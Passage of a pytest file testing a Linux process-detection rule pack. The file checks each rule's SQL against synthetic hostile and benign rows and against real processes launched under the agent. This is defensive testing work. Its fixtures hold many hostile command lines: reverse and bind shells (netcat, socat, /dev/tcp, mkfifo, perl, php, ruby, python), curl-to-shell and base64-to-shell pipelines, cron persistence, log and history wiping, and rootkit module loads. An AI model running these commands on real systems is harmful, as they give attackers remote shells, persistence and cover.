"""The bundled rule pack (rules/*.yaml, SPEC §5).

Two layers:

* Without the agent: every rule file parses, has exactly the SPEC keys, a
  unique id, a MITRE ATT&CK technique in its description and SQL that runs in
  SQLite against a mock of the agent's tables (regexp() backed by Python's
  `re`, which agrees with PCRE2 on every construct the pack uses). Each rule
  fires on a synthetic hostile row and stays quiet on a benign one.

* End to end (root): ONE daemoneye-agent (which spawns procmond) for the whole
  module, with a JSON-lines file sink and the repository's rules/. For every
  rule a REAL process that must raise that rule's alert for its own pid, and
  a benign look-alike that the agent demonstrably ingested (its pid is in the
  store) without raising that rule. All scenarios run concurrently, so the
  whole module costs one agent start-up plus a few seconds.
"""
import json
import os
import re
import secrets
import shutil
import signal
import sqlite3
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from conftest import BUILD, TOP

yaml = pytest.importorskip("yaml", reason="python3-yaml is not installed (scripts/deps.sh)")

RULES_DIR = TOP / "rules"
RULE_FILES = sorted(RULES_DIR.glob("*.yaml"))
SPEC_KEYS = {"id", "name", "description", "severity", "category", "enabled", "sql"}
SEVERITIES = ("info", "low", "medium", "high", "critical")
MITRE = re.compile(r"\bT1\d{3}(\.\d{3})?\b")

# The process columns of SPEC §5 as the store creates them (src/lib/store.c).
PROC_COLUMNS = (
    "pid", "ppid", "name", "executable_path", "command_line", "start_time", "start_ticks",
    "cpu_usage", "memory_usage", "executable_hash", "user_id", "effective_user_id",
    "group_id", "user_name", "cwd", "tty", "state", "threads", "accessible", "file_exists",
    "exe_deleted", "exe_memfd", "argv_truncated", "parent_name", "parent_executable_path",
    "parent_command_line", "container_id", "cgroup", "missing", "event_type",
    "collection_time",
)


def load_rule(path):
    with open(path, encoding="utf-8") as f:
        return yaml.safe_load(f)


RULES = {p.stem: load_rule(p) for p in RULE_FILES}


# --------------------------------------------------------------------------
# Layer 1: no agent needed.

def test_pack_size_and_unique_ids():
    assert len(RULE_FILES) >= 20, "SPEC §5: at least 20 bundled rules"
    ids = [r["id"] for r in RULES.values()]
    assert len(ids) == len(set(ids)), "rule ids must be unique"


@pytest.mark.parametrize("stem", sorted(RULES))
def test_rule_schema(stem):
    r = RULES[stem]
    assert isinstance(r, dict)
    assert set(r) == SPEC_KEYS, f"keys must be exactly {sorted(SPEC_KEYS)}"
    assert re.fullmatch(r"[a-z0-9-]+", r["id"]), "id is [a-z0-9-]+"
    assert r["id"] == stem, "the file is named after the rule id"
    assert r["severity"] in SEVERITIES
    assert r["enabled"] is True
    assert re.fullmatch(r"[a-z-]+", r["category"])
    assert MITRE.search(r["description"]), "description names a MITRE ATT&CK technique"
    assert r["name"].strip() and len(r["name"]) < 100
    assert re.match(r"\s*(SELECT|WITH)\b", r["sql"], re.I)
    for pat in re.findall(r"REGEXP '((?:[^']|'')*)'", r["sql"]):
        assert len(pat.encode()) <= 1024, "the sandbox refuses patterns over 1024 bytes"
        re.compile(pat.replace("''", "'"))


def mock_db():
    """An in-memory database with the tables a rule may read."""
    db = sqlite3.connect(":memory:")
    db.create_function("regexp", 2, lambda pat, s: s is not None and re.search(pat, s) is not None,
                       deterministic=True)
    cols = ", ".join(PROC_COLUMNS)
    for t in ("processes", "live_processes", "process_instances"):
        db.execute(f"CREATE TABLE {t} ({cols})")
    db.execute(f"CREATE TABLE process_events (id, collector_id, seq, source, exit_code,"
               f" runtime_ms, modified_fields, reason, {cols})")
    return db


BASE_ROW = dict(pid=4242, ppid=4000, name="worker", executable_path="/usr/bin/worker",
                command_line="worker --serve", start_time=1764090000000, user_id=1000,
                effective_user_id=1000, group_id=1000, user_name="alice", cwd="/home/alice",
                state="S", threads=1, accessible=1, file_exists=1, exe_deleted=0, exe_memfd=0,
                argv_truncated=0, parent_name="bash", parent_executable_path="/usr/bin/bash",
                parent_command_line="-bash", missing=0, event_type="start",
                collection_time=1764090000001)

SH = "/bin/sh -c sleep 10; : "


def row(**kw):
    r = dict(BASE_ROW)
    r.update(kw)
    return r


# rule id -> (rows that must fire, rows that must not). Each row is evaluated
# alone in `processes`; "parent" rows go to live_processes.
SYNTHETIC = {
    "exec-from-world-writable": (
        [row(executable_path="/tmp/x/updater"), row(executable_path="/dev/shm/.k"),
         row(executable_path="/var/tmp/a")],
        [row(executable_path="/run/app/tmp/updater"), row(executable_path="/usr/bin/tmpreaper")]),
    "exec-from-hidden-path": (
        [row(executable_path="/var/lib/.cache-x/updater"), row(executable_path="/usr/bin/.sshd")],
        [row(executable_path="/opt/not.hidden/updater"),
         row(executable_path="/root/.pyenv/versions/3.11.9/bin/python3.11"),
         row(executable_path="/home/a/.local/bin/tool")]),
    "exe-deleted": (
        [row(executable_path="/run/x/selfdel", exe_deleted=1, file_exists=0)],
        [row(executable_path="/usr/sbin/nginx", exe_deleted=1, file_exists=1),
         row(executable_path="/memfd:x", exe_deleted=1, exe_memfd=1, file_exists=0),
         row(cwd="/tmp/gone (deleted)")]),
    "exec-from-memfd": (
        [row(executable_path="/memfd:payload", exe_memfd=1, exe_deleted=1, file_exists=0)],
        [row(executable_path="/run/x/memfd:payload"),
         row(executable_path="/memfd:runc_cloned:/proc/self/exe", exe_memfd=1)]),
    "reverse-shell-dev-tcp": (
        [row(command_line="bash -c sleep 10; bash -i >& /dev/tcp/127.0.0.1/9 0>&1")],
        [row(command_line="bash -c sleep 10; ls /dev/tcp-docs")]),
    "reverse-shell-netcat": (
        [row(command_line=SH + "nc -e /bin/sh 127.0.0.1 4444"),
         row(command_line="/usr/bin/ncat --sh-exec 'bash -i' 10.0.0.1 443"),
         row(command_line="nc.traditional -lvp [REDACTED] -c /bin/bash")],
        [row(command_line=SH + "ncdu -e /var"), row(command_line="nc -zv 127.0.0.1 22")]),
    "reverse-shell-socat": (
        [row(command_line=SH + "socat tcp:127.0.0.1:4444 exec:/bin/bash -li,pty,stderr"),
         row(command_line="socat TCP4:10.0.0.1:53 SYSTEM:sh")],
        [row(command_line=SH + "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80")]),
    "bind-shell-listener": (
        [row(command_line=SH + "nc -lvnp 4444 -e /bin/sh"),
         row(command_line="socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash"),
         row(command_line="ncat --exec /bin/bash --listen 4444"),
         row(command_line="python3 -c import socket,os;s=socket.socket();s.bind(('',4444));"
                          "s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);"
                          "import pty;pty.spawn('/bin/sh')")],
        [row(command_line=SH + "nc -lvnp 4444"), row(command_line="nc -e /bin/sh 10.0.0.1 4444")]),
    "python-pty-spawn": (
        [row(command_line="/usr/bin/python3 -c import time; time.sleep(10); import pty; "
                          "pty.spawn('/bin/true')"),
         row(command_line="python -c import pty;pty.spawn(\"/bin/bash\")")],
        [row(command_line="/usr/bin/python3 -c import time, pty; time.sleep(10); "
                          "print(pty.CHILD)")]),
    "scripted-reverse-shell": (
        [row(command_line="/usr/bin/perl -e sleep 10; exit 0; use Socket; "
                          "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\")); "
                          "exec(\"/bin/sh -i\");"),
         row(command_line="php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3\");"),
         row(command_line="ruby -rsocket -e f=TCPSocket.open(\"10.0.0.1\",4444).to_i;"
                          "exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)")],
        [row(command_line="/usr/bin/perl -e use IO::Socket; sleep 10; print \"ok\\n\";")]),
    "shell-from-web-server": (
        [row(name="sh", parent_name="nginx"), row(name="bash", parent_name="php-fpm8.2")],
        [row(name="sh", parent_name="nginx-ctl"), row(name="sleep", parent_name="nginx")]),
    "shell-from-database-server": (
        [row(name="sh", parent_name="postgres", command_line="sh -c id >/dev/null; sleep 10; :"),
         row(name="bash", parent_name="mysqld", command_line="bash -c whoami"),
         row(name="sh", parent_name="postgres",
             command_line="sh -c cp /x /y; bash -i >& /dev/tcp/1.2.3.4/4 0>&1")],
        [row(name="sh", parent_name="postgres_export", command_line="sh -c sleep 10"),
         row(name="sh", parent_name="postgres",
             command_line="sh -c cp pg_wal/000000010000000000000001 /archive/000000010000000000000001")]),
    "kernel-thread-masquerade": (
        [row(name="kworker-u8:1", executable_path="/run/x/kworker-u8:1"),
         row(name="[kworker/0:0]", executable_path="/tmp/.x/m", ppid=1)],
        [row(name="kworkers-report", executable_path="/run/x/kworkers-report"),
         row(name="kworker/0:1", executable_path=None, ppid=2),
         row(name="irqbalance", executable_path="/usr/sbin/irqbalance")]),
    "crypto-miner": (
        [row(command_line=SH + "xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1"),
         row(name="xmrig", command_line="./xmrig")],
        [row(command_line=SH + "grep -r stratum docs/"),
         row(command_line="determinerd --mine-data")]),
    "download-and-execute": (
        [row(command_line="/bin/sh -c curl -fL http://127.0.0.1:9/install.sh | sh; sleep 10; :"),
         row(command_line="bash -c wget -qO- http://x/y | sudo bash"),
         row(command_line="sh -c \"$(curl -fsSL https://x/install)\""),
         row(command_line="curl http://x/a.py | python3")],
        [row(command_line="/bin/sh -c curl -fL http://127.0.0.1:9/install.sh | sha256sum; "
                          "sleep 10; :"),
         row(command_line="curl -o /tmp/x.sh http://x/x.sh")]),
    "base64-to-shell": (
        [row(command_line="/bin/sh -c echo dHJ1ZQo= | base64 -d | sh; sleep 10; :"),
         row(command_line="bash -c echo ZWNobwo= | base64 --decode | bash"),
         row(command_line="python3 -c import base64,os;os.system(base64.b64decode('aWQ='))")],
        [row(command_line="/bin/sh -c echo dHJ1ZQo= | base64 -d | sha256sum; sleep 10; :"),
         row(command_line="base64 -d key.b64 > key.bin")]),
    "privesc-unprivileged-parent": (
        [row(name="suidhelper", executable_path="/run/x/suidhelper", ppid=777, user_id=65534,
             effective_user_id=0, parent_name="sh",
             parent=row(pid=777, name="sh", user_id=65534, effective_user_id=65534))],
        [row(name="suidhelper", executable_path="/run/x/suidhelper", ppid=777, user_id=0,
             effective_user_id=0, parent_name="sh",
             parent=row(pid=777, name="sh", user_id=0, effective_user_id=0)),
         row(name="passwd", executable_path="/usr/bin/passwd", ppid=777, effective_user_id=0,
             parent=row(pid=777, name="bash", user_id=1000, effective_user_id=1000)),
         row(name="id", executable_path="/usr/bin/id", ppid=777, effective_user_id=0,
             parent_name="sudo",
             parent=row(pid=777, name="sudo", user_id=1000, effective_user_id=1000))]),
    "history-tampering": (
        [row(command_line="/bin/bash -c history -c; unset HISTFILE; sleep 10; :"),
         row(command_line="ln -sf /dev/null /root/.bash_history"),
         row(command_line="bash -c export HISTFILESIZE=0"),
         row(command_line="sh -c cat /dev/null > ~/.bash_history")],
        [row(command_line="/bin/bash -c history | tail -n 5; sleep 10; :"),
         row(command_line="bash -c echo hi >> ~/.bash_history")]),
    "log-tampering": (
        [row(command_line="/bin/sh -c shred -u /var/log/de-x.log; sleep 10; :"),
         row(command_line="truncate -s [REDACTED] /var/log/auth.log"),
         row(command_line="sh -c echo > /var/log/wtmp"),
         row(command_line="journalctl --vacuum-time=1s"),
         row(command_line="systemctl stop auditd")],
        [row(command_line="/bin/sh -c rm -f /tmp/de-x/chroot/var/log/app.log; sleep 10; :"),
         row(command_line="tail -n 20 /var/log/syslog"),
         row(command_line="gzip /var/log/old.log", parent_name="logrotate"),
         row(command_line="sh -c echo started >> /var/log/app.log")]),
    "ld-preload-hijack": (
        [row(command_line="/bin/sh -c LD_PRELOAD=/tmp/de-x/libhook.so sleep 10; :"),
         row(command_line="sh -c echo /lib/x.so > /etc/ld.so.preload"),
         row(command_line="tee -a /etc/ld.so.preload")],
        [row(command_line="/bin/sh -c LD_PRELOAD=/run/x/libjemalloc.so.2 sleep 10; :"),
         row(command_line="/bin/sh -c cat /etc/ld.so.preload 2>/dev/null; sleep 10; :")]),
    "chmod-exec-in-tmp": (
        [row(command_line="/bin/sh -c chmod +x /tmp/de-x/payload; sleep 10; :"),
         row(command_line="chmod 755 /dev/shm/k"), row(command_line="chmod -R u+rwx /var/tmp/d")],
        [row(command_line="/bin/sh -c chmod 644 /tmp/de-x/notes.txt; sleep 10; :"),
         row(command_line="chmod +x /opt/app/run"), row(command_line="chmod -x /tmp/a")]),
    "interpreter-script-from-tmp": (
        [row(executable_path="/usr/bin/dash", command_line="/bin/sh /tmp/de-x/run.sh"),
         row(executable_path="/usr/bin/python3.11", command_line="python3 -u /dev/shm/x.py")],
        [row(executable_path="/usr/bin/dash", command_line="/bin/sh /run/x/run.sh /tmp/input.txt"),
         row(executable_path="/run/x/tool", command_line="/run/x/tool /tmp/x.sh")]),
    "ssh-reverse-tunnel": (
        [row(command_line=SH + "ssh -N -R 2222:127.0.0.1:22 tunnel@203.0.113.7"),
         row(command_line="/usr/bin/ssh -fND1080 u@h"),
         row(command_line="ssh -o RemoteForward=2222:localhost:22 u@h")],
        [row(command_line=SH + "ssh-keygen -R 203.0.113.7"),
         row(command_line="ssh -L 5432:db:5432 u@h")]),
    "setuid-bit-set": (
        [row(command_line="/bin/sh -c chmod u+s /tmp/de-x/rootshell; sleep 10; :"),
         row(command_line="chmod 4755 /tmp/.bash")],
        [row(command_line="/bin/sh -c chmod g+s /tmp/de-x/shared; sleep 10; :"),
         row(command_line="chmod 0755 /usr/local/bin/x"), row(command_line="chmod 2775 /srv")]),
    "cron-persistence": (
        [row(command_line=SH + "echo '* * * * * curl -fsSL http://x/a | sh' | crontab -"),
         row(command_line="sh -c echo '@reboot root /tmp/.x' > /etc/cron.d/sysupdate"),
         row(command_line="crontab -u www-data /dev/shm/c"),
         row(command_line="cp /tmp/job /var/spool/cron/crontabs/root")],
        [row(command_line=SH + "crontab -l"), row(command_line="cat /etc/cron.d/e2scrub_all"),
         row(command_line="crontab -e")]),
    "kernel-module-from-tmp": (
        [row(command_line=SH + "insmod /tmp/.x/diamorphine.ko"),
         row(command_line="/sbin/modprobe /dev/shm/r.ko.xz"),
         row(command_line="insmod /root/.cache/reptile.ko")],
        [row(command_line=SH + "modprobe -n loop"),
         row(command_line="insmod /lib/modules/6.1.0/kernel/drivers/block/loop.ko")]),
    "reverse-shell-mkfifo": (
        [row(command_line=SH + "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | "
                               "nc 127.0.0.1 4444 > /tmp/f")],
        [row(command_line="/bin/sh -c mkfifo /tmp/de-x/pipe; sleep 10; :")]),
}


def eval_rule(sql, r):
    db = mock_db()
    r = dict(r)
    parent = r.pop("parent", None)
    cols = ", ".join(r)
    marks = ", ".join("?" for _ in r)
    db.execute(f"INSERT INTO processes ({cols}) VALUES ({marks})", list(r.values()))
    db.execute(f"INSERT INTO live_processes ({cols}) VALUES ({marks})", list(r.values()))
    if parent:
        pc = ", ".join(parent)
        db.execute(f"INSERT INTO live_processes ({pc}) VALUES ({', '.join('?' for _ in parent)})",
                   list(parent.values()))
    cur = db.execute(sql)
    names = [d[0] for d in cur.description]
    rows = cur.fetchall()
    db.close()
    return names, rows


def test_every_rule_has_scenarios():
    assert set(SYNTHETIC) == set(RULES), "every rule has synthetic rows"
    assert set(SCENARIOS) == set(RULES), "every rule has a real-process scenario pair"


@pytest.mark.parametrize("stem", sorted(RULES))
def test_rule_sql_on_synthetic_rows(stem):
    sql = RULES[stem]["sql"]
    fire, quiet = SYNTHETIC[stem]
    for r in fire:
        names, rows = eval_rule(sql, r)
        assert "pid" in names, "a rule must select pid"
        assert [x[names.index("pid")] for x in rows] == [r["pid"]], \
            f"should fire on {r.get('command_line')!r} / {r.get('executable_path')!r}"
    for r in quiet:
        names, rows = eval_rule(sql, r)
        assert rows == [], \
            f"should not fire on {r.get('command_line')!r} / {r.get('executable_path')!r}"


def test_cli_validates_pack():
    cli = BUILD / "src" / "cli" / "daemoneye-cli"
    if not cli.exists():
        pytest.skip(f"{cli} is not built")
    p = subprocess.run([str(cli), "rules", "validate", *map(str, RULE_FILES)],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stdout + p.stderr


# --------------------------------------------------------------------------
# Layer 2: real processes through the real agent.

# Each scenario process stays alive LIFE seconds (they are killed at teardown
# anyway): long enough that launching all of them on a loaded 2-core machine
# does not outlast the first ones.
LIFE = 30
HOLD = f"sleep {LIFE}; :"   # the trailing ':' keeps the shell from exec'ing sleep
FIRE_TIMEOUT = 30.0
QUIET_GRACE = 2.0


class Lab:
    """Directories, binaries and processes of the scenarios; cleans up after itself."""

    def __init__(self):
        safe_root = "/run" if os.access("/run", os.W_OK) else "/var/lib"
        # wdir sits in a world-writable tree; safe does not.
        self.wdir = Path(tempfile.mkdtemp(prefix="de-rulepack-", dir="/tmp"))
        self.safe = Path(tempfile.mkdtemp(prefix="de-rulepack-", dir=safe_root))
        for d in (self.wdir, self.safe):
            os.chmod(d, 0o755)
        self.procs = []
        self.extra_files = []

    def bin(self, directory, name, src="/bin/sleep"):
        directory = Path(directory)
        directory.mkdir(parents=True, exist_ok=True)
        os.chmod(directory, 0o755)
        dst = directory / name
        shutil.copy2(src, dst)
        os.chmod(dst, 0o755)
        return dst

    def spawn(self, argv, **kw):
        kw.setdefault("stdin", subprocess.DEVNULL)
        kw.setdefault("stdout", subprocess.DEVNULL)
        kw.setdefault("stderr", subprocess.DEVNULL)
        p = subprocess.Popen([str(a) for a in argv], start_new_session=True, **kw)
        self.procs.append(p)
        return p

    def sh(self, script, *words, **kw):
        """A shell running script, with words as extra argv (they show in its command line)."""
        return self.spawn(["/bin/sh", "-c", script, *words], **kw).pid

    def hold_with(self, *words):
        return self.sh(HOLD, *words)

    def child(self, ppid, name, timeout=15.0):
        """The pid of a child of ppid whose process name is name (scanning /proc).
        Matching the name, not the order, keeps this right under heavy load."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            for d in os.listdir("/proc"):
                if not d.isdigit():
                    continue
                try:
                    stat = Path(f"/proc/{d}/stat").read_text()
                except OSError:
                    continue
                comm, rest = stat.split(" (", 1)[1].rsplit(")", 1)
                if int(rest.split()[1]) == ppid and comm == name:
                    return int(d)
            time.sleep(0.05)
        raise RuntimeError(f"no child {name!r} of {ppid} appeared")

    def close(self):
        for p in self.procs:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except (ProcessLookupError, PermissionError):
                    pass
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                pass
        for f in self.extra_files:
            Path(f).unlink(missing_ok=True)
        shutil.rmtree(self.wdir, ignore_errors=True)
        shutil.rmtree(self.safe, ignore_errors=True)


def exec_fd(lab, fd, argv0):
    """execve()s the file behind fd (fexecve style) and returns the pid."""
    p = lab.spawn([argv0, LIFE], executable=f"/proc/self/fd/{fd}", pass_fds=(fd,))
    os.close(fd)
    return p.pid


# Each scenario launches a real process and returns the pid the alert must
# (or must not) name.

def fire_world_writable(lab):
    return lab.spawn([lab.bin(lab.wdir, "updater"), LIFE]).pid


def quiet_world_writable(lab):
    return lab.spawn([lab.bin(lab.safe / "tmp", "updater"), LIFE]).pid


def fire_hidden(lab):
    return lab.spawn([lab.bin(lab.safe / ".cache-x", "updater"), LIFE]).pid


def quiet_hidden(lab):
    return lab.spawn([lab.bin(lab.safe / "not.hidden", "updater"), LIFE]).pid


def fire_exe_deleted(lab):
    path = lab.bin(lab.safe / "del", "selfdel")
    fd = os.open(path, os.O_RDONLY)
    path.unlink()
    return exec_fd(lab, fd, "selfdel")


def quiet_exe_deleted(lab):
    # Its working directory is deleted, its executable is not.
    gone = lab.safe / "gone"
    gone.mkdir()
    p = lab.spawn([lab.bin(lab.safe, "cwdgone"), LIFE], cwd=gone)
    time.sleep(0.05)
    gone.rmdir()
    return p.pid


def fire_memfd(lab):
    rw = os.memfd_create("payload", 0)
    os.write(rw, Path("/bin/sleep").read_bytes())
    # Executing a file that is open for writing fails with ETXTBSY: reopen it
    # read-only and close the writable descriptor, as fileless loaders do.
    ro = os.open(f"/proc/self/fd/{rw}", os.O_RDONLY)
    os.close(rw)
    return exec_fd(lab, ro, "payload")


def quiet_memfd(lab):
    return lab.spawn([lab.bin(lab.safe, "memfd:payload"), LIFE]).pid


def fire_dev_tcp(lab):
    # A real reverse shell, delayed: after LIFE seconds it dials port 9 (discard),
    # where nothing listens, and fails.
    return lab.spawn(["/bin/bash", "-c", f"{HOLD} bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]).pid


def quiet_dev_tcp(lab):
    return lab.spawn(["/bin/bash", "-c", f"{HOLD} ls /dev/tcp-docs 2>/dev/null"]).pid


def fire_netcat(lab):
    return lab.hold_with("nc", "-e", "/bin/sh", "127.0.0.1", "4444")


def quiet_netcat(lab):
    return lab.hold_with("ncdu", "-e", "/var")


def fire_socat(lab):
    return lab.hold_with("socat", "tcp:127.0.0.1:4444", "exec:/bin/bash -li,pty,stderr")


def quiet_socat(lab):
    return lab.hold_with("socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80")


def fire_bind(lab):
    return lab.hold_with("nc", "-lvnp", "4444", "-e", "/bin/sh")


def quiet_bind(lab):
    return lab.hold_with("nc", "-lvnp", "4444")


def fire_pty(lab):
    # Really spawns a PTY (running /bin/true) once the hold is over.
    return lab.spawn(["/usr/bin/python3", "-c",
                      f"import time; time.sleep({LIFE}); import pty; pty.spawn('/bin/true')"]).pid


def quiet_pty(lab):
    return lab.spawn(["/usr/bin/python3", "-c",
                      f"import time, pty; time.sleep({LIFE}); print(pty.CHILD)"]).pid


def fire_scripted(lab):
    code = (f"sleep {LIFE}; exit 0; use Socket; "
            "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\")); "
            "connect(S,sockaddr_in(4444,inet_aton(\"127.0.0.1\"))); "
            "open(STDIN,\">&S\"); exec(\"/bin/sh -i\");")
    return lab.spawn(["/usr/bin/perl", "-e", code]).pid


def quiet_scripted(lab):
    return lab.spawn(["/usr/bin/perl", "-e", f"use IO::Socket; sleep {LIFE}; print \"ok\\n\";"]).pid


def shell_under(lab, parent_name):
    """A shell started by a parent whose process name is parent_name."""
    parent = lab.bin(lab.safe / "srv", parent_name, src="/bin/dash")
    p = lab.spawn([parent, "-c", f"sleep 1; /bin/sh -c 'id >/dev/null; {HOLD}'; :"])
    return lab.child(p.pid, "sh")


def fire_web(lab):
    return shell_under(lab, "nginx")


def quiet_web(lab):
    return shell_under(lab, "nginx-ctl")


def fire_db(lab):
    return shell_under(lab, "postgres")


def quiet_db(lab):
    return shell_under(lab, "postgres_export")


def fire_kthread(lab):
    return lab.spawn([lab.bin(lab.safe, "kworker-u8:1"), LIFE]).pid


def quiet_kthread(lab):
    return lab.spawn([lab.bin(lab.safe, "kworkers-report"), LIFE]).pid


def fire_miner(lab):
    return lab.hold_with("xmrig", "-o", "stratum+tcp://pool.example.net:3333",
                         "--donate-level", "1")


def quiet_miner(lab):
    return lab.hold_with("grep", "-r", "stratum", "docs/")


def fire_download(lab):
    # A real pipeline: curl gets "connection refused" from port 9 and sh runs nothing.
    return lab.sh(f"curl -fL http://127.0.0.1:9/install.sh | sh; {HOLD}")


def quiet_download(lab):
    return lab.sh(f"curl -fL http://127.0.0.1:9/install.sh | sha256sum; {HOLD}")


def fire_base64(lab):
    return lab.sh(f"echo dHJ1ZQo= | base64 -d | sh; {HOLD}")   # runs `true`


def quiet_base64(lab):
    return lab.sh(f"echo dHJ1ZQo= | base64 -d | sha256sum; {HOLD}")


def suid_copy(lab):
    path = lab.safe / "suid" / "suidhelper"
    if not path.exists():
        lab.bin(path.parent, path.name)
        os.chown(path, 0, 0)
        os.chmod(path, 0o4755)
    return path


def fire_privesc(lab):
    p = lab.spawn(["/bin/sh", "-c", f"sleep 1; {suid_copy(lab)} {LIFE}; :"],
                  user=65534, group=65534, extra_groups=[])
    return lab.child(p.pid, "suidhelper")


def quiet_privesc(lab):
    p = lab.spawn(["/bin/sh", "-c", f"sleep 1; {suid_copy(lab)} {LIFE}; :"])
    return lab.child(p.pid, "suidhelper")


def fire_history(lab):
    return lab.spawn(["/bin/bash", "-c", f"history -c; unset HISTFILE; {HOLD}"]).pid


def quiet_history(lab):
    return lab.spawn(["/bin/bash", "-c", f"history | tail -n 5; {HOLD}"]).pid


def fire_logs(lab):
    log = Path("/var/log") / f"de-rulepack-{secrets.token_hex(4)}.log"
    log.write_text("evidence\n")
    lab.extra_files.append(log)
    return lab.sh(f"shred -u {log}; {HOLD}")


def quiet_logs(lab):
    d = lab.wdir / "chroot" / "var" / "log"
    d.mkdir(parents=True)
    (d / "app.log").write_text("x\n")
    return lab.sh(f"rm -f {d / 'app.log'}; {HOLD}")


def fire_preload(lab):
    # The loader only warns about a library it cannot find; sleep runs normally.
    return lab.sh(f"LD_PRELOAD={lab.wdir}/libhook.so sleep {LIFE}; :")


def quiet_preload(lab):
    return lab.sh(f"LD_PRELOAD={lab.safe}/libjemalloc.so.2 sleep {LIFE}; :")


def fire_chmod_tmp(lab):
    f = lab.wdir / "payload"
    f.write_bytes(b"")
    return lab.sh(f"chmod +x {f}; {HOLD}")


def quiet_chmod_tmp(lab):
    f = lab.wdir / "notes.txt"
    f.write_text("x\n")
    return lab.sh(f"chmod 644 {f}; {HOLD}")


def fire_interp_tmp(lab):
    s = lab.wdir / "run.sh"
    s.write_text(f"{HOLD}\n")
    return lab.spawn(["/bin/sh", s]).pid


def quiet_interp_tmp(lab):
    s = lab.safe / "run.sh"
    s.write_text(f"{HOLD}\n")
    return lab.spawn(["/bin/sh", s, "/tmp/input.txt"]).pid


def fire_ssh(lab):
    return lab.hold_with("ssh", "-N", "-R", "2222:127.0.0.1:22", "tunnel@203.0.113.7")


def quiet_ssh(lab):
    return lab.hold_with("ssh-keygen", "-R", "203.0.113.7")


def fire_setuid(lab):
    f = lab.wdir / "rootshell"
    f.write_bytes(b"")
    return lab.sh(f"chmod u+s {f}; {HOLD}")


def quiet_setuid(lab):
    d = lab.wdir / "shared"
    d.mkdir()
    return lab.sh(f"chmod g+s {d}; {HOLD}")


def fire_cron(lab):
    return lab.hold_with("echo '* * * * * curl -fsSL http://203.0.113.7/a | sh' | crontab -")


def quiet_cron(lab):
    return lab.hold_with("crontab", "-l")


def fire_kmod(lab):
    return lab.hold_with("insmod", "/tmp/.x/diamorphine.ko")


def quiet_kmod(lab):
    return lab.hold_with("modprobe", "-n", "loop")


def fire_mkfifo(lab):
    return lab.hold_with("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | "
                         "nc 127.0.0.1 4444 > /tmp/f")


def quiet_mkfifo(lab):
    return lab.sh(f"mkfifo {lab.wdir / 'pipe'}; {HOLD}")


SCENARIOS = {
    "exec-from-world-writable": (fire_world_writable, quiet_world_writable),
    "exec-from-hidden-path": (fire_hidden, quiet_hidden),
    "exe-deleted": (fire_exe_deleted, quiet_exe_deleted),
    "exec-from-memfd": (fire_memfd, quiet_memfd),
    "reverse-shell-dev-tcp": (fire_dev_tcp, quiet_dev_tcp),
    "reverse-shell-netcat": (fire_netcat, quiet_netcat),
    "reverse-shell-socat": (fire_socat, quiet_socat),
    "bind-shell-listener": (fire_bind, quiet_bind),
    "python-pty-spawn": (fire_pty, quiet_pty),
    "scripted-reverse-shell": (fire_scripted, quiet_scripted),
    "shell-from-web-server": (fire_web, quiet_web),
    "shell-from-database-server": (fire_db, quiet_db),
    "kernel-thread-masquerade": (fire_kthread, quiet_kthread),
    "crypto-miner": (fire_miner, quiet_miner),
    "download-and-execute": (fire_download, quiet_download),
    "base64-to-shell": (fire_base64, quiet_base64),
    "privesc-unprivileged-parent": (fire_privesc, quiet_privesc),
    "history-tampering": (fire_history, quiet_history),
    "log-tampering": (fire_logs, quiet_logs),
    "ld-preload-hijack": (fire_preload, quiet_preload),
    "chmod-exec-in-tmp": (fire_chmod_tmp, quiet_chmod_tmp),
    "interpreter-script-from-tmp": (fire_interp_tmp, quiet_interp_tmp),
    "ssh-reverse-tunnel": (fire_ssh, quiet_ssh),
    "setuid-bit-set": (fire_setuid, quiet_setuid),
    "cron-persistence": (fire_cron, quiet_cron),
    "kernel-module-from-tmp": (fire_kmod, quiet_kmod),
    "reverse-shell-mkfifo": (fire_mkfifo, quiet_mkfifo),
}


def proc_row(pid):
    """A processes row for pid read straight from /proc, the way procmond fills it
    (close enough for the columns the pack uses)."""
    base = f"/proc/{pid}"
    try:
        exe = os.readlink(base + "/exe")
    except OSError:
        exe = None
    deleted = exe is not None and exe.endswith(" (deleted)")
    if deleted:
        exe = exe[:-len(" (deleted)")]
    memfd = exe is not None and exe.startswith("/memfd:")

    def ids(p):
        status = Path(f"/proc/{p}/status").read_text()
        uid = next(x for x in status.splitlines() if x.startswith("Uid:")).split()
        return int(uid[1]), int(uid[2])

    cmd = Path(base + "/cmdline").read_bytes().rstrip(b"\0").replace(b"\0", b" ").decode()
    ppid = int(Path(base + "/stat").read_text().rsplit(")", 1)[1].split()[1])
    pname = Path(f"/proc/{ppid}/comm").read_text().strip()
    uid, euid = ids(pid)
    puid, peuid = ids(ppid)
    return row(pid=pid, ppid=ppid, name=Path(base + "/comm").read_text().strip(),
               executable_path=exe, command_line=cmd, user_id=uid, effective_user_id=euid,
               exe_deleted=int(deleted or memfd), exe_memfd=int(memfd),
               file_exists=int(exe is not None and not memfd and os.path.exists(exe)),
               parent_name=pname,
               parent=row(pid=ppid, name=pname, user_id=puid, effective_user_id=peuid))


@pytest.fixture(scope="module")
def proc_rows():
    """Every scenario launched once without the agent, its row read from /proc."""
    if os.geteuid() != 0:
        pytest.skip("needs root: scenarios chown a setuid binary and write /var/log")
    lab = Lab()
    rows, errors = {}, {}
    try:
        pids = {}
        for rule, (fire, quiet) in SCENARIOS.items():
            for kind, fn in (("fire", fire), ("quiet", quiet)):
                try:
                    pids[(rule, kind)] = fn(lab)
                except Exception as e:
                    errors[(rule, kind)] = repr(e)
